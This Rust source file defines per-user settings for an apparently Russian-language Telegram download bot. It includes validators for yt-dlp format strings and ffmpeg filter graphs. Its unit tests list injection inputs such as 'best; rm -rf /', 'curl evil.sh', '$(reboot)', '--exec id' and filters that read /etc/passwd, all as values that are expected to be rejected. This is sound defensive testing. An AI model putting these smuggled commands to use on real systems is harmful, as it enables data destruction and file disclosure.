@@ -0,0 +1,628 @@
+//! Per-user preferences stored in the database.
+
+use std::sync::Arc;
+
+use serde::{Deserialize, Serialize};
+use sqlx::{Row, SqlitePool};
+
+use crate::errors::{BotError, BotResult};
+
+/// Options applied when sending the result to the user
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct SendOptions {
+    /// Send media blurred until tapped (videos only)
+    pub spoiler: bool,
+    /// Forbid forwarding and saving the sent media
+    pub protect_content: bool,
+    /// Delete the sent media after this many minutes (0 keeps it)
+    pub auto_delete_minutes: u32,
+    /// Burn the video's subtitles into the picture (videos only)
+    #[serde(default)]
+    pub subtitles: bool,
+    /// Follow the media with the video's chapter list (downloads with chapters only)
+    #[serde(default)]
+    pub chapters: bool,
+    /// Cut sponsor, self-promotion and intro segments out with SponsorBlock (YouTube only)
+    #[serde(default)]
+    pub sponsorblock: bool,
+    /// Send videos without their audio track (videos only)
+    #[serde(default)]
+    pub mute: bool,
+    /// Send the audio instead when the video itself can't be downloaded (downloads only)
+    #[serde(default)]
+    pub audio_fallback: bool,
+    /// Cut silence at the ends and long pauses out of audio (speech, music could lose its intro)
+    #[serde(default)]
+    pub trim_silence: bool,
+}
+
+/// Auto-delete delays offered in /settings, in minutes. Bots can't delete
+/// messages older than 48 hours, so longer delays aren't offered.
+pub const AUTO_DELETE_PRESETS: [u32; 4] = [0, 60, 6 * 60, 24 * 60];
+
+/// Longest profile name accepted by /profile save (profile names go into callback data)
+pub const MAX_PROFILE_NAME_CHARS: usize = 20;
+
+/// How many profiles a user can keep
+pub const MAX_PROFILES: usize = 10;
+
+/// Profile names are letters, digits, `-` and `_`
+pub fn is_valid_profile_name(name: &str) -> bool {
+    !name.is_empty()
+        && name.chars().count() <= MAX_PROFILE_NAME_CHARS
+        && name.chars().all(|c| c.is_alphanumeric() || c == '-' || c == '_')
+}
+
+/// Longest yt-dlp format expression accepted by /format_string
+pub const MAX_FORMAT_STRING_LEN: usize = 200;
+
+/// Sanity-check a yt-dlp `-f` expression before saving it. It's passed to yt-dlp
+/// as a single argument, so this only keeps out obvious garbage; a well-formed
+/// but wrong expression still fails at download time with yt-dlp's own error.
+pub fn validate_format_string(expr: &str) -> Result<(), String> {
+    if expr.is_empty() {
+        return Err("Выражение пустое".to_string());
+    }
+    if expr.len() > MAX_FORMAT_STRING_LEN {
+        return Err(format!(
+            "Выражение слишком длинное (максимум {} символов)",
+            MAX_FORMAT_STRING_LEN
+        ));
+    }
+    // Would be read as another yt-dlp option
+    if expr.starts_with('-') {
+        return Err("Выражение не может начинаться с «-»".to_string());
+    }
+    // Selectors, filters and operators: bv*[height<=1080][ext=mp4]+ba/b
+    if let Some(c) = expr
+        .chars()
+        .find(|c| !c.is_ascii_alphanumeric() && !r#"[]()+/,=<>!^$*?~:._-'"#.contains(*c))
+    {
+        return Err(format!("Недопустимый символ: «{}»", c));
+    }
+    // `$` is only the "ends with" filter operator `$=`, never `$(...)` or `$VAR`
+    if expr.match_indices('$').any(|(i, _)| !expr[i + 1..].starts_with('=')) {
+        return Err("Недопустимый символ: «$»".to_string());
+    }
+
+    Ok(())
+}
+
+/// Longest naming template accepted by /name
+pub const MAX_FILENAME_TEMPLATE_CHARS: usize = 100;
+
+/// Placeholders a naming template can use, expanded with the video's metadata
+pub const FILENAME_PLACEHOLDERS: [&str; 4] = ["{title}", "{uploader}", "{quality}", "{id}"];
+
+/// Sanity-check a naming template before saving it: length and placeholder names.
+/// Characters that can't be in a file name are replaced when it's expanded.
+pub fn validate_filename_template(template: &str) -> Result<(), String> {
+    if template.is_empty() {
+        return Err("Шаблон пустой".to_string());
+    }
+    if template.chars().count() > MAX_FILENAME_TEMPLATE_CHARS {
+        return Err(format!(
+            "Шаблон слишком длинный (максимум {} символов)",
+            MAX_FILENAME_TEMPLATE_CHARS
+        ));
+    }
+
+    // A typo like {titel} would otherwise end up in every file name as is
+    let mut rest = template;
+    while let Some(start) = rest.find('{') {
+        let Some(len) = rest[start..].find('}') else { break };
+        let placeholder = &rest[start..start + len + 1];
+        if !FILENAME_PLACEHOLDERS.contains(&placeholder) {
+            return Err(format!("Неизвестная подстановка {}", placeholder));
+        }
+        rest = &rest[start + len + 1..];
+    }
+
+    Ok(())
+}
+
+/// Longest ffmpeg filter graph accepted by /filter
+pub const MAX_FILTER_LEN: usize = 300;
+
+/// Filters a user may put in a /filter graph. Only filters that work on the stream
+/// alone: anything that can read or write files, load models or plugins, or take
+/// commands from outside (`movie`, `curves`, `lut1d`, `drawtext`, `vmafmotion`, ...)
+/// is left out, since their file arguments can't be told apart from other values.
+const ALLOWED_FILTERS: &[&str] = &[
+    // Video
+    "scale", "crop", "pad", "hflip", "vflip", "transpose", "rotate", "setsar", "setdar",
+    "eq", "hue", "colorbalance", "colorchannelmixer", "colorlevels", "colortemperature",
+    "vibrance", "lutyuv", "lutrgb", "negate", "format", "boxblur", "gblur", "smartblur",
+    "unsharp", "hqdn3d", "nlmeans", "deband", "noise", "vignette", "edgedetect", "fade",
+    "fps", "framestep", "setpts", "trim", "reverse", "tpad", "drawbox", "drawgrid",
+    "chromakey", "colorkey", "zoompan", "minterpolate", "tblend", "deflicker", "yadif",
+    // Audio
+    "atempo", "volume", "aecho", "afade", "equalizer", "bass", "treble", "highpass",
+    "lowpass", "bandpass", "bandreject", "loudnorm", "dynaudnorm", "acompressor",
+    "compand", "alimiter", "aresample", "asetrate", "areverse", "atrim", "asetpts",
+    "apad", "pan", "stereotools", "extrastereo", "chorus", "flanger", "aphaser",
+    "tremolo", "vibrato", "silenceremove", "afftdn", "anlmdn", "crystalizer", "earwax",
+];
+
+/// Options that take a file path. None of the allowed filters has one, this keeps
+/// them out should a filter with such an option ever be allowed.
+const PATH_OPTIONS: &[&str] = &[
+    "file", "filename", "psfile", "fontfile", "textfile", "stats_file", "model", "logfile",
+];
+
+/// Sanity-check an ffmpeg filter graph before saving it. It's passed to ffmpeg as
+/// a single `-vf`/`-af` argument, so this keeps out other options and allows only
+/// a plain chain of `ALLOWED_FILTERS`, which can't reach outside the stream; a
+/// well-formed but wrong graph fails at conversion time with ffmpeg's own error.
+pub fn validate_filter(graph: &str) -> Result<(), String> {
+    if graph.is_empty() {
+        return Err("Фильтр пустой".to_string());
+    }
+    if graph.len() > MAX_FILTER_LEN {
+        return Err(format!("Фильтр слишком длинный (максимум {} символов)", MAX_FILTER_LEN));
+    }
+    // Would be read as another ffmpeg option
+    if graph.starts_with('-') {
+        return Err("Фильтр не может начинаться с «-»".to_string());
+    }
+    if let Some(c) = graph.chars().find(|c| c.is_control()) {
+        return Err(format!("Недопустимый символ: {:?}", c));
+    }
+    // Quoting and escaping could hide a filter name or option from the checks below,
+    // and labels and several chains aren't needed for a single stream
+    if let Some(c) = graph.chars().find(|c| matches!(c, '\'' | '"' | '\\' | '[' | ']' | ';')) {
+        return Err(format!("Символ «{}» в фильтре не поддерживается", c));
+    }
+
+    for filter in graph.split(',').map(str::trim) {
+        let (name, args) = filter.split_once('=').unwrap_or((filter, ""));
+        // `name@instance` is the same filter
+        let name = name.split('@').next().unwrap_or_default().trim();
+        if name.is_empty() {
+            return Err("Пустой фильтр в цепочке".to_string());
+        }
+        if !ALLOWED_FILTERS.contains(&name) {
+            return Err(format!("Фильтр «{}» использовать нельзя", name));
+        }
+
+        for option in args.split(':') {
+            if let Some((key, _)) = option.split_once('=')
+                && PATH_OPTIONS.contains(&key.trim())
+            {
+                return Err(format!(
+                    "«{}» использовать нельзя: фильтр не должен обращаться к файлам",
+                    key.trim()
+                ));
+            }
+        }
+    }
+
+    Ok(())
+}
+
+/// A user's own ffmpeg filters, applied before every conversion (premium only, set with /filter)
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct CustomFilters {
+    /// `-vf` filter graph
+    pub video: Option<String>,
+    /// `-af` filter graph
+    pub audio: Option<String>,
+}
+
+impl CustomFilters {
+    pub fn is_empty(&self) -> bool {
+        self.video.is_none() && self.audio.is_none()
+    }
+}
+
+/// A single toggleable send option, used in inline keyboards
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum SendOption {
+    Spoiler,
+    ProtectContent,
+    Subtitles,
+    Chapters,
+    SponsorBlock,
+    Mute,
+    AudioFallback,
+    TrimSilence,
+}
+
+impl SendOption {
+    pub const ALL: [SendOption; 8] = [
+        SendOption::Spoiler,
+        SendOption::ProtectContent,
+        SendOption::Subtitles,
+        SendOption::Chapters,
+        SendOption::SponsorBlock,
+        SendOption::Mute,
+        SendOption::AudioFallback,
+        SendOption::TrimSilence,
+    ];
+
+    /// Key used in callback data
+    pub fn key(&self) -> &'static str {
+        match self {
+            SendOption::Spoiler => "spoiler",
+            SendOption::ProtectContent => "protect",
+            SendOption::Subtitles => "subtitles",
+            SendOption::Chapters => "chapters",
+            SendOption::SponsorBlock => "sponsorblock",
+            SendOption::Mute => "mute",
+            SendOption::AudioFallback => "audiofallback",
+            SendOption::TrimSilence => "trimsilence",
+        }
+    }
+
+    pub fn from_key(key: &str) -> Option<Self> {
+        Self::ALL.into_iter().find(|o| o.key() == key)
+    }
+
+    pub fn label(&self) -> &'static str {
+        match self {
+            SendOption::Spoiler => "🙈 Спойлер",
+            SendOption::ProtectContent => "🔒 Защита от пересылки",
+            SendOption::Subtitles => "💬 Вшить субтитры",
+            SendOption::Chapters => "📑 Список глав",
+            SendOption::SponsorBlock => "⏭ Без рекламных вставок",
+            SendOption::Mute => "🔇 Без звука",
+            SendOption::AudioFallback => "🎧 Звук, если видео нет",
+            SendOption::TrimSilence => "🤫 Звук без пауз (для речи)",
+        }
+    }
+}
+
+impl SendOptions {
+    pub fn get(&self, option: SendOption) -> bool {
+        match option {
+            SendOption::Spoiler => self.spoiler,
+            SendOption::ProtectContent => self.protect_content,
+            SendOption::Subtitles => self.subtitles,
+            SendOption::Chapters => self.chapters,
+            SendOption::SponsorBlock => self.sponsorblock,
+            SendOption::Mute => self.mute,
+            SendOption::AudioFallback => self.audio_fallback,
+            SendOption::TrimSilence => self.trim_silence,
+        }
+    }
+
+    pub fn toggle(&mut self, option: SendOption) {
+        match option {
+            SendOption::Spoiler => self.spoiler = !self.spoiler,
+            SendOption::ProtectContent => self.protect_content = !self.protect_content,
+            SendOption::Subtitles => self.subtitles = !self.subtitles,
+            SendOption::Chapters => self.chapters = !self.chapters,
+            SendOption::SponsorBlock => self.sponsorblock = !self.sponsorblock,
+            SendOption::Mute => self.mute = !self.mute,
+            SendOption::AudioFallback => self.audio_fallback = !self.audio_fallback,
+            SendOption::TrimSilence => self.trim_silence = !self.trim_silence,
+        }
+    }
+
+    /// Button label showing the option's current state
+    pub fn button_label(&self, option: SendOption) -> String {
+        let state = if self.get(option) { "вкл" } else { "выкл" };
+        format!("{}: {}", option.label(), state)
+    }
+
+    /// Delay after which the sent media is deleted, if auto-delete is on
+    pub fn auto_delete_after(&self) -> Option<std::time::Duration> {
+        (self.auto_delete_minutes > 0)
+            .then(|| std::time::Duration::from_secs(self.auto_delete_minutes as u64 * 60))
+    }
+
+    /// Switch to the next auto-delete preset
+    pub fn cycle_auto_delete(&mut self) {
+        let current = AUTO_DELETE_PRESETS
+            .iter()
+            .position(|&m| m == self.auto_delete_minutes)
+            .unwrap_or(0);
+        self.auto_delete_minutes = AUTO_DELETE_PRESETS[(current + 1) % AUTO_DELETE_PRESETS.len()];
+    }
+
+    /// Button label showing the current auto-delete delay
+    pub fn auto_delete_label(&self) -> String {
+        let state = match self.auto_delete_minutes {
+            0 => "выкл".to_string(),
+            m if m % 60 == 0 => format!("через {} ч", m / 60),
+            m => format!("через {} мин", m),
+        };
+        format!("🗑 Автоудаление: {}", state)
+    }
+}
+
+/// Per-user preferences
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct UserSettings {
+    /// Default send options for new downloads
+    pub send_options: SendOptions,
+    /// Custom yt-dlp `-f` expression replacing the quality picker (premium only)
+    pub format_string: Option<String>,
+    /// Pick the video quality from its length instead of asking
+    pub smart_quality: bool,
+    /// Name for downloaded files, with `FILENAME_PLACEHOLDERS` (set with /name)
+    #[serde(default)]
+    pub filename_template: Option<String>,
+    /// ffmpeg filters applied before conversions (premium only)
+    #[serde(default)]
+    pub filters: CustomFilters,
+    /// Chat or channel results are also posted to (set with /channel)
+    #[serde(default)]
+    pub target_chat: Option<i64>,
+}
+
+impl UserSettings {
+    /// Filters to apply to a new task, none without a subscription
+    pub fn filters_for(&self, premium: bool) -> CustomFilters {
+        if premium {
+            self.filters.clone()
+        } else {
+            CustomFilters::default()
+        }
+    }
+
+    /// Button label showing whether smart quality is on
+    pub fn smart_quality_label(&self) -> String {
+        let state = if self.smart_quality { "вкл" } else { "выкл" };
+        format!("✨ Качество по длине видео: {}", state)
+    }
+}
+
+/// Settings manager handles per-user preferences storage
+#[derive(Clone)]
+pub struct SettingsManager {
+    pool: Arc<SqlitePool>,
+}
+
+impl SettingsManager {
+    pub fn new(pool: Arc<SqlitePool>) -> Self {
+        Self { pool }
+    }
+
+    /// Get settings for a user (defaults if none were saved)
+    pub async fn get(&self, user_id: i64) -> UserSettings {
+        let result = sqlx::query("SELECT spoiler, protect_content, auto_delete_minutes, subtitles, chapters, sponsorblock, mute, audio_fallback, trim_silence, format_string, smart_quality, filename_template, video_filter, audio_filter, target_chat_id FROM user_settings WHERE user_id = ?")
+            .bind(user_id)
+            .fetch_optional(self.pool.as_ref())
+            .await;
+
+        match result {
+            Ok(Some(row)) => UserSettings {
+                send_options: SendOptions {
+                    spoiler: row.get("spoiler"),
+                    protect_content: row.get("protect_content"),
+                    auto_delete_minutes: row.get("auto_delete_minutes"),
+                    subtitles: row.get("subtitles"),
+                    chapters: row.get("chapters"),
+                    sponsorblock: row.get("sponsorblock"),
+                    mute: row.get("mute"),
+                    audio_fallback: row.get("audio_fallback"),
+                    trim_silence: row.get("trim_silence"),
+                },
+                format_string: row.get("format_string"),
+                smart_quality: row.get("smart_quality"),
+                filename_template: row.get("filename_template"),
+                filters: CustomFilters {
+                    video: row.get("video_filter"),
+                    audio: row.get("audio_filter"),
+                },
+                target_chat: row.get("target_chat_id"),
+            },
+            Ok(None) => UserSettings::default(),
+            Err(e) => {
+                log::error!("Failed to load settings for user {}: {}", user_id, e);
+                UserSettings::default()
+            }
+        }
+    }
+
+    /// Save settings for a user
+    pub async fn update(&self, user_id: i64, settings: &UserSettings) -> BotResult<()> {
+        sqlx::query(
+            r#"
+            INSERT INTO user_settings (user_id, spoiler, protect_content, auto_delete_minutes, subtitles, chapters, sponsorblock, mute, audio_fallback, trim_silence, format_string, smart_quality, filename_template, video_filter, audio_filter, target_chat_id) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
+            ON CONFLICT(user_id) DO UPDATE SET
+                spoiler = excluded.spoiler,
+                protect_content = excluded.protect_content,
+                auto_delete_minutes = excluded.auto_delete_minutes,
+                subtitles = excluded.subtitles,
+                chapters = excluded.chapters,
+                sponsorblock = excluded.sponsorblock,
+                mute = excluded.mute,
+                audio_fallback = excluded.audio_fallback,
+                trim_silence = excluded.trim_silence,
+                format_string = excluded.format_string,
+                smart_quality = excluded.smart_quality,
+                filename_template = excluded.filename_template,
+                video_filter = excluded.video_filter,
+                audio_filter = excluded.audio_filter,
+                target_chat_id = excluded.target_chat_id
+            "#,
+        )
+        .bind(user_id)
+        .bind(settings.send_options.spoiler)
+        .bind(settings.send_options.protect_content)
+        .bind(settings.send_options.auto_delete_minutes)
+        .bind(settings.send_options.subtitles)
+        .bind(settings.send_options.chapters)
+        .bind(settings.send_options.sponsorblock)
+        .bind(settings.send_options.mute)
+        .bind(settings.send_options.audio_fallback)
+        .bind(settings.send_options.trim_silence)
+        .bind(&settings.format_string)
+        .bind(settings.smart_quality)
+        .bind(&settings.filename_template)
+        .bind(&settings.filters.video)
+        .bind(&settings.filters.audio)
+        .bind(settings.target_chat)
+        .execute(self.pool.as_ref())
+        .await
+        .map_err(|e| BotError::general(format!("Failed to save settings: {}", e)))?;
+
+        Ok(())
+    }
+
+    /// Save the settings under a profile name, replacing a profile with the same name
+    pub async fn save_profile(&self, user_id: i64, name: &str, settings: &UserSettings) -> BotResult<()> {
+        let json = serde_json::to_string(settings)
+            .map_err(|e| BotError::general(format!("Failed to serialize profile: {}", e)))?;
+
+        sqlx::query(
+            r#"
+            INSERT INTO profiles (user_id, name, settings, created_at) VALUES (?, ?, ?, ?)
+            ON CONFLICT(user_id, name) DO UPDATE SET settings = excluded.settings
+            "#,
+        )
+        .bind(user_id)
+        .bind(name)
+        .bind(json)
+        .bind(chrono::Utc::now().timestamp())
+        .execute(self.pool.as_ref())
+        .await
+        .map_err(|e| BotError::general(format!("Failed to save profile: {}", e)))?;
+
+        Ok(())
+    }
+
+    /// Get a user's profile by name
+    pub async fn get_profile(&self, user_id: i64, name: &str) -> BotResult<Option<UserSettings>> {
+        let row = sqlx::query("SELECT settings FROM profiles WHERE user_id = ? AND name = ?")
+            .bind(user_id)
+            .bind(name)
+            .fetch_optional(self.pool.as_ref())
+            .await
+            .map_err(|e| BotError::general(format!("Failed to load profile: {}", e)))?;
+
+        row.map(|row| {
+            serde_json::from_str(row.get("settings"))
+                .map_err(|e| BotError::ParseError(format!("Failed to parse profile: {}", e)))
+        })
+        .transpose()
+    }
+
+    /// Names of a user's profiles, oldest first
+    pub async fn list_profiles(&self, user_id: i64) -> BotResult<Vec<String>> {
+        let rows = sqlx::query("SELECT name FROM profiles WHERE user_id = ? ORDER BY created_at, name")
+            .bind(user_id)
+            .fetch_all(self.pool.as_ref())
+            .await
+            .map_err(|e| BotError::general(format!("Failed to list profiles: {}", e)))?;
+
+        Ok(rows.into_iter().map(|row| row.get("name")).collect())
+    }
+
+    /// Delete a user's profile. Returns false if there was no such profile.
+    pub async fn delete_profile(&self, user_id: i64, name: &str) -> BotResult<bool> {
+        let result = sqlx::query("DELETE FROM profiles WHERE user_id = ? AND name = ?")
+            .bind(user_id)
+            .bind(name)
+            .execute(self.pool.as_ref())
+            .await
+            .map_err(|e| BotError::general(format!("Failed to delete profile: {}", e)))?;
+
+        Ok(result.rows_affected() > 0)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn format_string_allows_selectors() {
+        for expr in [
+            "best",
+            "bv*[height<=1080][ext=mp4]+ba[ext=m4a]/b[ext=mp4]/b",
+            "bestvideo[vcodec^=avc1]+bestaudio/best",
+            "(bv*[fps>30]/bv*)+ba/b",
+            "137+140",
+            "b[filesize<50M]",
+            "bv*[format_note!*=premium]+ba",
+            "ba[language=ru]/ba",
+            "b[url$=.m3u8]",
+            "worst.2",
+        ] {
+            assert_eq!(validate_format_string(expr), Ok(()), "{} was rejected", expr);
+        }
+    }
+
+    #[test]
+    fn format_string_rejects_shell_and_options() {
+        for expr in [
+            "best; rm -rf /",
+            "best && curl evil.sh",
+            "best | sh",
+            "$(reboot)",
+            "b[ext=$EXT]",
+            "b$",
+            "`id`",
+            "best > /tmp/x",
+            "best\nworst",
+            "best\n--exec id",
+            "b[ext=\"mp4\"]",
+            "b --exec id",
+            "-o /etc/passwd",
+            "--exec=id",
+            "",
+        ] {
+            assert!(validate_format_string(expr).is_err(), "{} was accepted", expr);
+        }
+    }
+
+    #[test]
+    fn format_string_length_is_capped() {
+        assert!(validate_format_string(&"b/".repeat(MAX_FORMAT_STRING_LEN / 2)).is_ok());
+        assert!(validate_format_string(&"b".repeat(MAX_FORMAT_STRING_LEN + 1)).is_err());
+        // Counted in bytes, so multi-byte characters can't sneak past the limit
+        assert!(validate_format_string(&"б".repeat(MAX_FORMAT_STRING_LEN / 2 + 1)).is_err());
+    }
+
+    #[test]
+    fn filter_allows_plain_chains() {
+        assert!(validate_filter("eq=contrast=1.2,hflip").is_ok());
+        assert!(validate_filter("scale=iw/2:ih/2, setsar=1").is_ok());
+        assert!(validate_filter("atempo=1.25,volume=2").is_ok());
+        assert!(validate_filter("hflip@mirror").is_ok());
+    }
+
+    #[test]
+    fn filter_rejects_file_access() {
+        for graph in [
+            "curves=psfile=/etc/passwd",
+            "lut1d=/etc/passwd",
+            "vmafmotion=/tmp/stats.txt",
+            "vmafmotion=stats_file=/tmp/stats.txt",
+            "hflip,movie=/etc/passwd",
+            "drawtext=textfile=/etc/passwd",
+            "eq=file=/etc/passwd",
+            "scale=filename=/tmp/x",
+            "sendcmd=f=/tmp/cmds",
+            "amovie=/dev/zero",
+        ] {
+            assert!(validate_filter(graph).is_err(), "{} was accepted", graph);
+        }
+    }
+
+    #[test]
+    fn filter_rejects_escaping_and_labels() {
+        for graph in [
+            "'movie'=/etc/passwd",
+            "mo\\vie=/etc/passwd",
+            "hflip;movie=/etc/passwd",
+            "[in]hflip[out]",
+            "hflip,\"curves\"=psfile=/x",
+            "-i /etc/passwd",
+            "hflip,,vflip",
+            "",
+        ] {
+            assert!(validate_filter(graph).is_err(), "{:?} was accepted", graph);
+        }
+    }
+
+    #[test]
+    fn filter_rejects_unknown_names() {
+        assert!(validate_filter("HFLIP").is_err());
+        assert!(validate_filter("frei0r=distort0r").is_err());
+        assert!(validate_filter(&"hflip,".repeat(60)).is_err());
+    }
+}